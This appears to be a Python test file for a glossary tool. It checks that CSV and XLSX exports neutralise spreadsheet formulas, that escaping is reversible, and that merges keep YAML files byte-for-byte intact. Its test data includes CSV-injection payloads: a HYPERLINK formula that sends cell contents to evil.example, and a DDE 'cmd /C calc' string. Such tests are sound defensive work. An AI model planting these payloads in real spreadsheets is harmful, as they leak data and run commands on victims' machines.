"""Hostile spreadsheets and TBX files given to ``import``, and exports opened in a
spreadsheet: each case runs the real command in a child process under a memory and time
limit (``childproc.run``) and checks the exact message, the exit code and what was (not)
written."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from childproc import run

import glossary

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def concept_folder(tmp_path: Path, terms: list[str]) -> Path:
    folder = tmp_path / "g"
    folder.mkdir()
    (folder / "glossary.toml").write_text(
        '[glossary]\nid = "g"\nlanguages = ["fi", "en"]\n', "utf-8"
    )
    listed = ", ".join('"' + t.replace("\\", "\\\\").replace('"', '\\"') + '"' for t in terms)
    (folder / "a.yaml").write_text(
        'id: a\nnote: "=1+2"\nlanguages:\n'
        f"  fi:\n    definition: '@SUM(A1)'\n    terms: [{listed}]\n"
        "  en:\n    terms: [plain]\n",
        "utf-8",
    )
    return folder


# -- formulas in spreadsheets (OWASP CSV injection) ----------------------------------------

HOSTILE_TERMS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-ism",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''-two quotes",
    "'plain quote'",
    "a=b",
]


def test_csv_export_neutralises_formulas_and_import_reverses_it(tmp_path):
    folder = concept_folder(tmp_path, HOSTILE_TERMS)
    out = tmp_path / "g.csv"
    result = run("export", "csv", "--out", out, "-g", folder)
    assert result.returncode == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(out.read_text("utf-8"))) for cell in row]
    assert cells, "empty export"
    assert [c for c in cells if c[:1] in TRIGGERS] == []
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert {"'+1+1", "'-ism", "''=already quoted", "'''-two quotes", "'plain quote'"} <= set(cells)
    assert {"'=1+2", "'@SUM(A1)", "a=b"} <= set(cells)

    into = tmp_path / "t"
    result = run("import", out, "--into", into)
    assert result.returncode == 0, result.stderr
    before, after = glossary.load(folder), glossary.load(into)
    assert list(after.concepts.values()) == list(before.concepts.values())
    assert [t.term for t in after.concepts["a"].languages["fi"].terms] == HOSTILE_TERMS


def test_xlsx_export_writes_formulas_as_text_cells(tmp_path):
    folder = concept_folder(tmp_path, HOSTILE_TERMS)
    out = tmp_path / "g.xlsx"
    result = run("export", "xlsx", "--out", out, "-g", folder)
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet

    from openpyxl import load_workbook

    cells = [c for row in load_workbook(out)["terms"].iter_rows(min_row=2) for c in row]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in TRIGGERS]
    assert {c.value for c in risky} >= {HOSTILE_TERMS[0], "+1+1", "-ism", "=1+2"}
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)

    into = tmp_path / "t"
    result = run("import", out, "--into", into)
    assert result.returncode == 0, result.stderr
    assert [t.term for t in glossary.load(into).concepts["a"].languages["fi"].terms] == (
        HOSTILE_TERMS
    )


def test_the_csv_escape_is_a_bijection():
    from glossary.exporters.csv import escape_cell, unescape_cell

    samples = ["", "'", "''", "=", "'=", "''=", "x", "'x", "-", "\t-", "\r", "@'", "'@'", "a-"]
    for value in samples:
        cell = escape_cell(value)
        assert cell[:1] not in TRIGGERS
        assert unescape_cell(cell) == value, value
    assert len({escape_cell(v) for v in samples}) == len(samples)


# -- import --merge edits the file, never rewrites it -----------------------------------------

EXISTING = """\
# Checked with the partner, 2026-03.
id: distance-learning
status: approved   # do not change
subjects: [e-learning]
languages:
  FI:
    terms: [etäopiskelu]\t# a comment after a tab

  ru:
    definition: |
      Обучение
      на расстоянии.

    terms:
    - term: дистанционное обучение
      note: 'kept as written'
    - дистанционка   # colloquial
  # English is still missing
"""


def merge_sheet(tmp_path: Path) -> Path:
    sheet = tmp_path / "new.csv"
    sheet.write_text(
        "id,fi,ru,en,definition fi,subject\n"
        'distance-learning,etäoppiminen,"вебинар: ""онлайн""",distance learning,'
        "Opiskelu etänä.,e-learning; pedagogy\n",
        "utf-8",
    )
    return sheet


def test_merge_inserts_what_is_new_and_keeps_every_other_byte(tmp_path):
    terms = tmp_path / "terms"
    terms.mkdir()
    (terms / "glossary.toml").write_text(
        '[glossary]\nid = "t"\nlanguages = ["fi", "ru", "en"]\n'
        '[subjects]\ne-learning = { en = "e-learning" }\npedagogy = { en = "pedagogy" }\n',
        "utf-8",
    )
    path = terms / "distance-learning.yaml"
    path.write_text(EXISTING, "utf-8")
    result = run("import", merge_sheet(tmp_path), "--into", terms, "--merge")
    assert result.returncode == 0, result.stderr
    assert result.stdout == (
        f"merged    {path}  (added fi: 1 term, ru: 1 term, en: new language, subjects or related)\n"
    )
    assert path.read_text("utf-8") == (
        "# Checked with the partner, 2026-03.\n"
        "id: distance-learning\n"
        "status: approved   # do not change\n"
        "subjects: [e-learning, pedagogy]\n"
        "languages:\n"
        "  FI:\n"
        "    terms: [etäopiskelu, {term: etäoppiminen, status: admitted}]\t# a comment after a tab\n"
        "    definition: Opiskelu etänä.\n"
        "\n"
        "  ru:\n"
        "    definition: |\n"
        "      Обучение\n"
        "      на расстоянии.\n"
        "\n"
        "    terms:\n"
        "    - term: дистанционное обучение\n"
        "      note: 'kept as written'\n"
        "    - дистанционка   # colloquial\n"
        "    - term: 'вебинар: \"онлайн\"'\n"
        "      status: admitted\n"
        "  en:\n"
        "    terms: [distance learning]\n"
        "  # English is still missing\n"
    )
    again = run("import", merge_sheet(tmp_path), "--into", terms, "--merge")
    assert again.returncode == 0 and "(nothing new)" in again.stdout


BROKEN = {
    "unknown-field": ("  fi:\n    terms: [etäopiskelu]\n    colour: blue\n", "5:5: L106"),
    "invalid-value": (
        "  fi:\n    terms:\n    - term: etäopiskelu\n      pos: nuon\n",
        "6:12: L108",
    ),
    "invalid-date": ("updated: 2026-13-01\nlanguages:\n  fi:\n    terms: [a]\n", "2:10: L114"),
}


def test_merge_never_touches_a_file_that_does_not_load_cleanly(tmp_path):
    terms = tmp_path / "terms"
    terms.mkdir()
    (terms / "glossary.toml").write_text(
        '[glossary]\nid = "t"\nlanguages = ["fi", "ru", "en"]\n', "utf-8"
    )
    sheet = tmp_path / "new.csv"
    rows = ["id,fi,en"] + [f"{name},uusi,new" for name in BROKEN]
    sheet.write_text("\n".join(rows) + "\n", "utf-8")
    before = {}
    for name, (body, _) in BROKEN.items():
        text = f"id: {name}\n" + (body if body.startswith("updated") else "languages:\n" + body)
        (terms / f"{name}.yaml").write_text(text, "utf-8")
        before[name] = text.encode()
    result = run("import", sheet, "--into", terms, "--merge")
    assert result.returncode == 1
    for name, (_, where) in BROKEN.items():
        path = terms / f"{name}.yaml"
        assert path.read_bytes() == before[name]
        assert f"{path}:{where} " in result.stderr
        assert f"skipped   {path}  (the file has errors (see above); nothing merged)" in (
            result.stdout
        )
    assert result.stderr.endswith("imported 3 concepts: 3 skipped; 3 errors (see above)\n")
